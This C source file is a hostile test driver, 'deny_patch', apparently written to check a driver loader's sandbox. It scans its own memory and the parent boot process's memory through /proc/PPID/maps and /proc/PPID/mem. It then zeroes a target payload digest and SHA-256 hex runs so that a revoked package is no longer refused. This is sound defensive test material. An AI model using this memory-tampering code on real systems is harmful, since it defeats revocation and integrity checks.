// SPDX-License-Identifier: MIT
/*
 * deny_patch: the deny-list attack of issue 12. A driver booted first goes for the loader's
 * revocation deny-list in host memory, so that a revoked package booted after it is no longer
 * refused. Through libc (libc.h) its probe
 *
 *   1. reads /proc/self/maps (fopen/fgets) and, in every private writable mapping of at most
 *      256 MiB, overwrites every run of 64 hex digits (a SHA-256 in text: a deny-list line, a
 *      payload digest) with '0's, and every copy of the target digest in binary (the 32 bytes
 *      the loader compares a package's payload digest with) with zeros;
 *   2. does the same in its parent, the process that runs the boot (xdrv boot forks a process
 *      per driver, so its own memory holds only a copy of the list): /proc/PPID/maps for the
 *      mappings, /proc/PPID/mem (pread/pwrite: as root the kernel lets a process write another
 *      of the same user) for the bytes; here only the target digest, binary or in hex, is
 *      patched, so that the boot itself carries on.
 *
 * The target is the payload digest of the package the attacker wants to boot (which an
 * attacker holding that package knows): `xdrv build -D DENY_TARGET='"<64 hex digits>"'`. It
 * logs what it patched where. Under the sandbox, opening a file is a denied system call
 * (SIGSYS) and nothing is patched; without it, the revoked package must still be refused:
 * tests/e2e/domains_hostile.sh checks that.
 */
#define HOSTILE_NAME "deny_patch"
#include "libc.h"
#include "drv.h"

#ifndef DENY_TARGET
#define DENY_TARGET ""
#endif

#define MAX_MAPPING (256u << 20)
#define CHUNK	    (64u << 10)

struct stats {
	uint64_t maps, hex_runs, digests;
};

/* The target in binary, stored inverted so that this copy never matches a scan. */
static uint8_t target_inv[32];
static int have_target;

static int hexval(char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	if (c >= 'A' && c <= 'F')
		return c - 'A' + 10;
	return -1;
}

static int target_at(const uint8_t *p)
{
	for (uint32_t i = 0; i < 32; i++)
		if (p[i] != (uint8_t)~target_inv[i])
			return 0;
	return 1;
}

static int target_hex_at(const uint8_t *p)
{
	for (uint32_t i = 0; i < 32; i++) {
		int hi = hexval((char)p[2 * i]), lo = hexval((char)p[2 * i + 1]);
		if (hi < 0 || lo < 0 || (uint8_t)(hi << 4 | lo) != (uint8_t)~target_inv[i])
			return 0;
	}
	return 1;
}

/* Patches buf[0..n) in place; `all_hex`: every 64-hex run, else only the target's. Returns
 * whether anything changed. */
static int patch(uint8_t *buf, uint64_t n, int all_hex, struct stats *st)
{
	int changed = 0;
	uint64_t run = 0;
	for (uint64_t i = 0; i < n; i++) {
		if (have_target && i + 32 <= n && target_at(buf + i)) {
			for (uint32_t k = 0; k < 32; k++)
				buf[i + k] = 0;
			st->digests++;
			changed = 1;
		}
		if (hexval((char)buf[i]) >= 0) {
			run++;
			continue;
		}
		if (run == 64 && (all_hex || (have_target && target_hex_at(buf + i - 64)))) {
			for (uint64_t k = i - 64; k < i; k++)
				buf[k] = '0';
			st->hex_runs++;
			changed = 1;
		}
		run = 0;
	}
	return changed;
}

static uint64_t parse_hex(const char **s)
{
	uint64_t v = 0;
	int d;
	while ((d = hexval(**s)) >= 0) {
		v = v << 4 | (uint64_t)d;
		(*s)++;
	}
	return v;
}

/* One line of a maps file: a private writable mapping worth scanning? */
static int scannable(const char *line, uint64_t *start, uint64_t *end)
{
	const char *s = line;
	*start = parse_hex(&s);
	if (*s++ != '-')
		return 0;
	*end = parse_hex(&s);
	if (*s++ != ' ' || s[0] != 'r' || s[1] != 'w' || s[3] != 'p')
		return 0;
	if (*end <= *start || *end - *start > MAX_MAPPING)
		return 0;
	/* no [vvar], [vsyscall], device memory */
	return !hx_contains(line, "[v") && !hx_contains(line, " /dev/");
}

static void log_stats(const char *where, const struct stats *st)
{
	char line[300];
	line[0] = 0;
	hx_cat(line, sizeof line, "deny_patch: ");
	hx_cat(line, sizeof line, where);
	hx_cat(line, sizeof line, ": scanned ");
	hx_cat_u64(line, sizeof line, st->maps);
	hx_cat(line, sizeof line, " writable mappings, patched ");
	hx_cat_u64(line, sizeof line, st->hex_runs);
	hx_cat(line, sizeof line, " hex digests and ");
	hx_cat_u64(line, sizeof line, st->digests);
	hx_cat(line, sizeof line, " binary copies of the target");
	xdrv_log(XDRV_LOG_WARN, line);
}

static int32_t hostile_probe(xdrv_device_t *dev)
{
	(void)dev;
	static const char target[65] = DENY_TARGET; /* 64 hex digits, or "" */
	have_target = hx_strlen(target) == 64;
	for (uint32_t i = 0; have_target && i < 32; i++) {
		int hi = hexval(target[2 * i]), lo = hexval(target[2 * i + 1]);
		if (hi < 0 || lo < 0)
			have_target = 0;
		else
			target_inv[i] = (uint8_t) ~(hi << 4 | lo);
	}
	hx_log2(XDRV_LOG_WARN, "deny_patch: target payload digest ",
		have_target ? target : "(none: built without DENY_TARGET)");
	hx_fopen_fn fo = (hx_fopen_fn)hx_sym("fopen");
	hx_fgets_fn fg = (hx_fgets_fn)hx_sym("fgets");
	hx_fclose_fn fc = (hx_fclose_fn)hx_sym("fclose");
	hx_open_fn op = (hx_open_fn)hx_sym("open");
	hx_pread_fn pr = (hx_pread_fn)hx_sym("pread");
	hx_pread_fn pw = (hx_pread_fn)hx_sym("pwrite");
	hx_close_fn cl = (hx_close_fn)hx_sym("close");
	hx_getpid_fn gpp = (hx_getpid_fn)hx_sym("getppid");
	if (!fo || !fg || !fc || !op || !pr || !pw || !cl || !gpp)
		return XDRV_ENOTSUP;

	/* 1. this process */
	char line[512];
	struct stats st = {0, 0, 0};
	void *f = fo("/proc/self/maps", "r");
	if (!f) {
		xdrv_log(XDRV_LOG_WARN, "deny_patch: cannot open /proc/self/maps");
		return XDRV_OK;
	}
	for (uint32_t n = 0; n < 100000 && fg(line, sizeof line, f); n++) {
		uint64_t a, b;
		if (!scannable(line, &a, &b))
			continue;
		st.maps++;
		patch((uint8_t *)(uintptr_t)a, b - a, 1, &st);
	}
	fc(f);
	log_stats("this process", &st);

	/* 2. the parent: the boot */
	int ppid = gpp();
	char maps[64], mem[64];
	maps[0] = mem[0] = 0;
	hx_cat(maps, sizeof maps, "/proc/");
	hx_cat_u64(maps, sizeof maps, (uint64_t)ppid);
	hx_cat(mem, sizeof mem, maps);
	hx_cat(maps, sizeof maps, "/maps");
	hx_cat(mem, sizeof mem, "/mem");
	f = fo(maps, "r");
	int fd = f ? op(mem, 2 /* O_RDWR */, 0) : -1;
	if (!f || fd < 0) {
		hx_log2(XDRV_LOG_WARN, "deny_patch: cannot open the parent's memory: ", mem);
		if (f)
			fc(f);
		return XDRV_OK;
	}
	uint8_t *buf = xdrv_mem_alloc(CHUNK);
	struct stats ps = {0, 0, 0};
	for (uint32_t n = 0; buf && n < 100000 && fg(line, sizeof line, f); n++) {
		uint64_t a, b;
		if (!scannable(line, &a, &b))
			continue;
		ps.maps++;
		/* chunks overlap by 64 bytes: a digest across a boundary is seen whole */
		for (uint64_t off = a; off < b; off += CHUNK - 64) {
			uint64_t len = b - off < CHUNK ? b - off : CHUNK;
			if (pr(fd, buf, len, (long)off) != (long)len)
				break;
			if (patch(buf, len, 0, &ps))
				pw(fd, buf, len, (long)off);
			if (len < CHUNK)
				break;
		}
	}
	fc(f);
	cl(fd);
	xdrv_mem_free(buf);
	hx_log2(XDRV_LOG_WARN, "deny_patch: parent: ", maps);
	log_stats("its parent", &ps);
	return XDRV_OK;
}
